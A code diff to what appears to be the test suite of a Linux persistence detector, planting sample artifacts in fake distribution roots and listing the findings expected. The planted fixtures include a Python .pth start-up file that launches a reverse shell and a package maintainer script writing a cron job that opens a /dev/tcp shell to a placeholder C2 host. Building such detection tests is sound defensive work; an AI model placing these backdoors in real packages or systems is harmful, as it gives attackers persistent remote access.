@@ -463,6 +463,17 @@ fn clean(d: Distro, root: &Path, work: &Path) {
     std::fs::create_dir_all(root.join("var/tmp")).unwrap();
     chmod(root, "var/tmp", 0o1777);
 
+    // setuptools' stock .pth (its import line runs at every Python start) and a stock
+    // maintainer script.
+    write(
+        root,
+        &format!("{}/distutils-precedence.pth", python_site(d)),
+        "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n",
+    );
+    if !d.rpm() {
+        write(root, "var/lib/dpkg/info/openssh-server.postinst", "#!/bin/sh\nset -e\nif [ \"$1\" = configure ]; then\n\tif ! getent passwd sshd >/dev/null; then\n\t\tadduser --quiet --system --no-create-home --home /run/sshd --shell /usr/sbin/nologin sshd\n\tfi\n\tdeb-systemd-helper unmask 'ssh.service' >/dev/null || true\nfi\nexit 0\n");
+    }
+
     // The package database: ps, top and ls as packaged.
     if d.rpm() {
         ferret_testkit::rpm::install(work, root, RPM_SPEC);
@@ -1106,6 +1117,31 @@ fn plant(d: Distro, root: &Path) {
         );
     }
 
+    // Python start-up hook (Elastic's persistence_pth_file_creation; the LiteLLM/ultralytics
+    // supply-chain .pth): a reverse shell at every Python start, beside the stock .pth.
+    write(
+        root,
+        &format!("{}/mpl-init.pth", python_site(d)),
+        format!("import os; os.system('{}')\n", revshell.replace('\'', "\"")),
+    );
+    // A package whose maintainer script writes a cron reverse shell (PANIX
+    // --malicious-package): dpkg's postinst, rpm's %post scriptlet.
+    let cron_line = format!("echo '* * * * * root /bin/bash -c \"sh -i >& /dev/tcp/{C2}/1337 0>&1\"' > /etc/cron.d/panix");
+    if d.rpm() {
+        let work = tempfile::tempdir().unwrap();
+        ferret_testkit::rpm::install(
+            work.path(),
+            root,
+            &format!("Name: panix\nVersion: 1.0\nRelease: 1\nSummary: x\nLicense: MIT\nBuildArch: noarch\n%description\nx.\n%post\n{cron_line}\n%files\n"),
+        );
+    } else {
+        write(
+            root,
+            "var/lib/dpkg/info/panix.postinst",
+            format!("#!/bin/sh\nset -e\n{cron_line}\n"),
+        );
+    }
+
     // Login records wiped: wtmp emptied (`> /var/log/wtmp`), lastlog cut mid-record.
     write(root, "var/log/wtmp", b"");
     let lastlog = std::fs::read(root.join("var/log/lastlog")).unwrap();
@@ -1515,7 +1551,32 @@ fn expectations(d: Distro, wipe_auth: bool) -> Vec<Expect> {
             Medium,
         ));
     }
+    v.push(expect(
+        "Python .pth reverse shell",
+        "persistence.python-pth",
+        "mpl-init.pth",
+        Critical,
+    ));
+    v.push(expect(
+        "maintainer script writing a cron reverse shell",
+        "persistence.package-script",
+        if d.rpm() {
+            "panix-1.0-1.noarch %post"
+        } else {
+            "/var/lib/dpkg/info/panix.postinst"
+        },
+        High,
+    ));
     v
+}
+
+/// The system Python's site directory of each distribution.
+fn python_site(d: Distro) -> &'static str {
+    match d {
+        Distro::Ubuntu => "usr/lib/python3/dist-packages",
+        Distro::Centos7 => "usr/lib/python2.7/site-packages",
+        Distro::Rocky9 => "usr/lib/python3.9/site-packages",
+    }
 }
 
 fn matches(f: &ferret::core::Finding, e: &Expect) -> bool {
